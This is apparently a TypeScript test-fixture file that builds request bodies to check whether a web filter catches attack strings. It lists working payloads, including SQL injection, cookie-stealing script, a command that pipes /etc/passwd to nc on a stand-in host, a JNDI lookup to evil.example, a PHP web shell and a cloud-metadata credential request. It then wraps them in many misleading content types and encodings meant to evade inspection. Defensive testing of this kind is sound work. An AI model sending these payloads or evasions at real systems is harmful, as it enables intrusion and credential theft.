/** A request's body and the headers that go with it, of the wire. */
export interface TestBody {
  headers: readonly string[];
  body: Buffer;
}

/** One value for each family that a body may carry. */
export const ATTACKS = {
  'SQL injection': "1' UNION SELECT username, password FROM users-- -",
  'Cross-site scripting': '<script>alert(document.cookie)</script>',
  'Path traversal': '../../../../../../etc/passwd',
  'Command execution': ';cat /etc/passwd|nc 192.0.2.9 4444',
  Shellshock: '() { :;}; /bin/bash -c "cat /etc/passwd"',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack has it.
  'Java lookups': '${jndi:ldap://evil.example/a}',
  'PHP code': "<?php system($_GET['c']); ?>",
  Templates: "{{''.__class__.__mro__[1].__subclasses__()}}",
  'Server-side requests': 'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
  Deserialisation: 'O:8:"stdClass":1:{s:4:"name";s:5:"admin";}',
  'Directory queries': '*)(uid=*))(|(uid=*',
} as const;

/** Types that say nothing, or not the truth, of what follows them. */
export const MISLEADING_TYPES = [
  '',
  'a/b',
  'image/png',
  'application/octet-stream',
  'application/x-json',
  'application/csp-report',
  'application/x-ndjson',
  'text/html',
  'text/plain',
  'text/plain; charset=utf-8',
  'application/graphql',
  'video/mp4',
  'application/zip',
  'text/csv',
  'application/protobuf',
] as const;

const utf8 = (text: string) => Buffer.from(text, 'utf8');
const typed = (type: string) => (type === '' ? [] : ['Content-Type', type]);

export const form = (value: string) => `page=1&comment=${encodeURIComponent(value)}&ok=yes`;
export const json = (value: string) => JSON.stringify({ page: 1, items: [{ comment: value }], ok: true });
const xmlText = (value: string) =>
  value.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
export const xml = (value: string) =>
  `<?xml version="1.0"?><order><comment>${xmlText(value)}</comment></order>`;

/** A form of parts with a field that comes in this transfer encoding. */
function parts(value: string, coding: string, disposition = 'form-data; name="comment"'): string {
  const head = `Content-Disposition: ${disposition}\r\n${coding === '' ? '' : `Content-Transfer-Encoding: ${coding}\r\n`}`;
  return `--edge\r\nContent-Disposition: form-data; name="page"\r\n\r\n1\r\n--edge\r\n${head}\r\n${value}\r\n--edge--\r\n`;
}

const base64 = (value: string) => utf8(value).toString('base64');
const quotedPrintable = (value: string) =>
  [...utf8(value)].map((byte) => `=${byte.toString(16).toUpperCase().padStart(2, '0')}`).join('');

/** IBM037 of the characters that the values here use. */
const EBCDIC: Readonly<Record<string, number>> = Object.fromEntries([
  ...[...'abcdefghi'].map((letter, index) => [letter, 0x81 + index]),
  ...[...'jklmnopqr'].map((letter, index) => [letter, 0x91 + index]),
  ...[...'stuvwxyz'].map((letter, index) => [letter, 0xa2 + index]),
  ...[...'ABCDEFGHI'].map((letter, index) => [letter, 0xc1 + index]),
  ...[...'JKLMNOPQR'].map((letter, index) => [letter, 0xd1 + index]),
  ...[...'STUVWXYZ'].map((letter, index) => [letter, 0xe2 + index]),
  ...[...'0123456789'].map((digit, index) => [digit, 0xf0 + index]),
  ...Object.entries({ '%': 0x6c, '=': 0x7e, '&': 0x50, '-': 0x60, '.': 0x4b, _: 0x6d, '!': 0x5a, '~': 0xa1 }),
  ...Object.entries({
    '*': 0x5c,
    "'": 0x7d,
    '(': 0x4d,
    ')': 0x5d,
    ' ': 0x40,
    ',': 0x6b,
    '<': 0x4c,
    '>': 0x6e,
  }),
  ...Object.entries({ '/': 0x61, ':': 0x7a, ';': 0x5e, '|': 0x4f, '{': 0xc0, '}': 0xd0, '"': 0x7f, $: 0x5b }),
  ...Object.entries({ '?': 0x6f, '[': 0xba, ']': 0xbb, '+': 0x4e, ü: 0xdc, ö: 0xcc }),
]);
export const ebcdic = (text: string) => Buffer.from([...text].map((character) => EBCDIC[character]!));

const percent = (bytes: Buffer) => bytes.toString('hex').replace(/../g, '%$&');
const utf16be = (text: string) => Buffer.from(text, 'utf16le').swap16();
const utf7 = (text: string) =>
  text.replace(/[^A-Za-z0-9 ]+/g, (run) => `+${utf16be(run).toString('base64').replace(/=+$/, '')}-`);

const yamlStyles = (value: string) => ({
  'in double quotes': JSON.stringify(value),
  'in double quotes, escaped': `"${[...utf8(value).toString('latin1')].map((byte) => `\\x${byte.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}"`,
  'in single quotes': `'${value.replaceAll("'", "''")}'`,
  'as it is written': `|\n    ${value}`,
  folded: `>-\n    ${value.replaceAll(' ', '\n    ')}`,
});

/** The value in every kind of body that some server would read it from. */
export function bodiesWith(value: string): Record<string, TestBody> {
  const kinds: Record<string, TestBody> = {};
  const add = (name: string, headers: readonly string[], body: string | Buffer) => {
    kinds[name] = { headers, body: typeof body === 'string' ? utf8(body) : body };
  };
  for (const type of MISLEADING_TYPES) {
    add(`form as '${type}'`, typed(type), form(value));
    add(`JSON as '${type}'`, typed(type), json(value));
    add(`XML as '${type}'`, typed(type), xml(value));
  }
  add('two types', ['Content-Type', 'text/plain', 'Content-Type', 'application/json'], json(value));
  add(
    'two types, the other way',
    ['Content-Type', 'application/json', 'Content-Type', 'text/plain'],
    form(value),
  );
  add('JSON as a form', typed('application/x-www-form-urlencoded'), json(value));
  add(
    'JSON lines',
    typed('application/x-ndjson'),
    `${JSON.stringify({ a: 1 })}\n${JSON.stringify({ q: value })}\n`,
  );
  add(
    'XML, behind other texts',
    typed('text/xml'),
    xml(value).replace('<order>', '<order><!-- 1 --><id>7</id> <name>tea</name>\n'),
  );
  add('GraphQL', typed('application/graphql'), `query { items(comment: ${JSON.stringify(value)}) { id } }`);
  for (const type of ['application/yaml', 'text/x-yaml', 'application/vnd.oai.openapi+yaml', ''])
    for (const [style, scalar] of Object.entries(yamlStyles(value)))
      add(
        `YAML, ${style}, as '${type}'`,
        typed(type),
        `page: 1\nitems:\n- id: 7\n  comment: ${scalar}\nok: yes\n`,
      );
  add('YAML, a flow', typed('application/yaml'), `{page: 1, items: [{comment: ${JSON.stringify(value)}}]}`);
  add('bare text', typed('text/plain'), value);
  add('byte order mark', typed('a/b'), `\ufeff${json(value)}`);
  add('white space first', typed('a/b'), `${' \r\n\t'.repeat(20_000)}${json(value)}`);
  add('comment first', typed('a/b'), `/* ${'x'.repeat(5000)} */ // {\n${json(value)}`);
  add('NUL first', typed('a/b'), `\0\0\0\0${json(value)}`);
  add('form behind NUL', typed('a/b'), Buffer.concat([Buffer.alloc(4000), utf8(`&${form(value)}`)]));
  const noise = Buffer.from(
    Array.from({ length: 20_000 }, (_, index) => (index * index * 31 + index * 7) % 256),
  );
  add('form behind bytes', typed('image/png'), Buffer.concat([noise, utf8(`&${form(value)}`)]));
  add('form before bytes', typed('image/png'), Buffer.concat([utf8(`${form(value)}&x=`), noise]));
  add('form and JSON at once', typed('a/b'), `{"a":"&comment=${encodeURIComponent(value)}&"}`);
  add('JSON with an error behind it', typed('a/b'), `${json(value)}]`);
  for (const type of ['mixed', 'related', 'form-data', 'alternative', 'x-own']) {
    const mime = typed(`multipart/${type}; boundary=edge`);
    if (type !== 'form-data') add(`multipart/${type}`, mime, parts(value, ''));
    add(`base64 in multipart/${type}`, mime, parts(base64(value), 'base64'));
    add(`quoted-printable in multipart/${type}`, mime, parts(quotedPrintable(value), 'Quoted-Printable'));
  }
  add(
    'JSON in multipart/related',
    typed('multipart/related; boundary="edge"'),
    `--edge\r\nContent-Type: application/json\r\n\r\n${json(value)}\r\n--edge\r\nContent-Type: image/png\r\n\r\n\x89PNG\0\0\0\r\n--edge--`,
  );
  add('parts without a type', [], parts(value, ''));
  add('base64 in parts without a type', [], parts(base64(value), 'base64'));
  add(
    'parts in parts',
    typed('multipart/mixed; boundary=outer'),
    `--outer\r\nContent-Type: multipart/mixed; boundary=edge\r\n\r\n${parts(base64(value), 'base64')}\r\n--outer--\r\n`,
  );
  const wwwForm = 'application/x-www-form-urlencoded; charset=';
  add('ibm037 form', typed(`${wwwForm}ibm037`), ebcdic(form(value)));
  add('IBM500 form', typed(`${wwwForm}"IBM500"`), ebcdic(form(value)));
  add('ibm037 form with escapes', typed(`${wwwForm}ibm037`), `comment=${percent(ebcdic(value))}`);
  add('utf-7 form', typed(`${wwwForm}utf-7`), `comment=${utf7(value)}`);
  add('shift_jis form', typed(`${wwwForm}shift_jis`), form(value));
  for (const type of ['application/json', 'a/b']) {
    add(
      `UTF-16 little-endian ${type}`,
      typed(`${type}; charset=utf-16le`),
      Buffer.from(json(value), 'utf16le'),
    );
    add(`UTF-16 big-endian ${type}`, typed(`${type}; charset=utf-16be`), utf16be(json(value)));
    add(
      `UTF-16 ${type} with a mark`,
      typed(`${type}; charset=utf-16`),
      Buffer.from(`\ufeff${json(value)}`, 'utf16le'),
    );
  }
  add('UTF-16 that nobody named', typed('a/b'), Buffer.from(json(value), 'utf16le'));
  add('UTF-16 with a mark that nobody named', typed('a/b'), utf16be(`\ufeff${json(value)}`));
  return kinds;
}
